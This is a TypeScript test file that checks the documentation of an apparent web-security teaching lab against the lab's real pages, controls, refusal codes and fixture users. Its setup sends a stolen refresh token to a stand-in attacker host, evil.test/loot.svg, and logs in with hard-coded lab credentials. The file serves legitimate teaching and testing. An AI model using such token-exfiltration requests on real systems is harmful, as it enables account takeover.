import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { checkNames, refusalCodes } from '@shared/trace/check.ts'
import { fixtureUsers } from '../../../src/server/stores/users.ts'
import { ask, newJar, type AskOptions, type CookieJar } from '../../support/lab-client.ts'
import { openTestLab, type TestLab } from '../../support/open-test-lab.ts'

/** docs/lab.md is what lesson authors go by: it must be true. */
const guide = readFileSync(new URL('../../../docs/lab.md', import.meta.url), 'utf8')
const cellsOf = (row: string): string[] =>
  row
    .split('|')
    .slice(1, -1)
    .map(cell => cell.trim())
const codesIn = (cell: string): string[] => [...cell.matchAll(/`([^`]+)`/g)].map(([, code]) => code ?? '')

let test: TestLab
let jar: CookieJar

beforeAll(async () => {
  test = await openTestLab()
  jar = newJar()
  await ask(test.lab, 'https://evil.test/loot.svg?refresh_token=copied')
  for (const scheme of ['session', 'jwt', 'passport']) {
    await ask(test.lab, `https://shop.test/${scheme}/login`, { form: { user: 'admin', password: 'opensesame' }, jar })
  }
})
afterAll(() => test.lab.close())

const idsIn = async (url: string, options: AskOptions = {}): Promise<Set<string>> => {
  const { body } = await ask(test.lab, url, options)
  return new Set([...body.matchAll(/\bid="([\w-]+)"/g)].map(([, id]) => id ?? ''))
}

describe('docs/lab.md', () => {
  const rows = guide
    .slice(guide.indexOf('## Controls by page'), guide.indexOf('## Worth knowing'))
    .split('\n')
    .filter(line => line.startsWith('| '))
    .slice(2)
  const addresses: Readonly<Record<string, readonly [string, AskOptions?]>> = {
    'shop.test/': ['https://shop.test/'],
    '/nothing/': ['https://shop.test/nothing/'],
    '/basic/': ['https://shop.test/basic/'],
    '/basic/orders/': ['https://shop.test/basic/invoices/', { headers: { Authorization: `Basic ${btoa('admin:opensesame')}` } }],
    '/basic/admin/': ['https://shop.test/basic/admin/', { headers: { Authorization: `Basic ${btoa('alice:wonderland')}` } }],
    '/basic/orders/forget': ['https://shop.test/basic/orders/forget'],
    '/session/': ['https://shop.test/session/'],
    '/session/bff': ['https://shop.test/session/bff'],
    '/session/me': ['https://shop.test/session/me'],
    '/session/sign-up': ['https://shop.test/session/sign-up'],
    '/session/basket': ['https://shop.test/session/basket'],
    '/session/sessions': ['https://shop.test/session/sessions'],
    '/session/admin': ['https://shop.test/session/admin'],
    '/jwt/': ['https://shop.test/jwt/'],
    '/jwt/me': ['https://shop.test/jwt/me'],
    '/session/transfer': ['https://shop.test/session/transfer', { form: { to: 'bob', points: '1' } }],
    '/passport/me': ['https://shop.test/passport/me'],
    '/orders/': ['https://shop.test/orders/'],
    '/orders/1001': ['https://shop.test/orders/1004'],
    '/cookie/': ['https://shop.test/cookie/'],
    '/cookie/news': ['https://shop.test/cookie/news'],
    '/cache/': ['https://shop.test/cache/'],
    '/limits/': ['https://shop.test/limits/'],
    '/bearer/': ['https://shop.test/bearer/'],
    '/bearer/by-hand': ['https://shop.test/bearer/by-hand'],
    '/refresh/': ['https://shop.test/refresh/'],
    '/first-look': ['https://shop.test/first-look'],
    '/first-look/check': ['https://shop.test/first-look/check'],
    '/cookies': ['https://shop.test/cookies'],
    'evil.test/cookies': ['https://evil.test/cookies'],
    'evil.test/': ['https://evil.test/'],
    'evil.test/first-look': ['https://evil.test/first-look'],
    'evil.test/prize': ['https://evil.test/prize'],
    'evil.test/loot': ['https://evil.test/loot'],
    '/storage': ['https://shop.test/storage'],
    '/lab/cors': ['https://shop.test/lab/cors'],
    '/lab/echo': ['https://shop.test/lab/echo', { method: 'POST', body: 'x' }],
    '/lab/answer': ['https://shop.test/lab/answer?status=1'],
  }

  it('names a known page in each row of controls', () => {
    const pages = rows.map(row => codesIn(cellsOf(row)[0] ?? '')[0] ?? '')
    expect(pages.filter(page => page !== '').toSorted()).toEqual(Object.keys(addresses).toSorted())
  })

  it.each(rows.filter(row => codesIn(cellsOf(row)[0] ?? '').length > 0))('names controls that are there: %s', async row => {
    const [pages = '', ids = ''] = cellsOf(row)
    const [url, options] = addresses[codesIn(pages)[0] ?? ''] ?? ['']
    const there = await idsIn(url, { jar, ...options })
    const named = codesIn(ids).filter(id => /^[a-z-]+$/.test(id) && !/^(?:session|same-origin|include)-$/.test(id) && id !== 'data-status')
    expect(named.filter(id => !there.has(id))).toEqual([])
  })

  it('names the refusals of every check', () => {
    for (const name of checkNames) {
      const row = guide.split('\n').find(line => line.startsWith(`| \`${name}\``) && cellsOf(line).length === 3)
      expect([name, codesIn(cellsOf(row ?? '')[1] ?? '')]).toEqual([name, [...refusalCodes[name]]])
    }
  })

  it('names the users and their passwords', () => {
    for (const { name, password, role } of fixtureUsers)
      expect(guide).toMatch(new RegExp(`\\| \`${name}\` +\\| \`${password}\` +\\| ${role} +\\|`))
  })
})
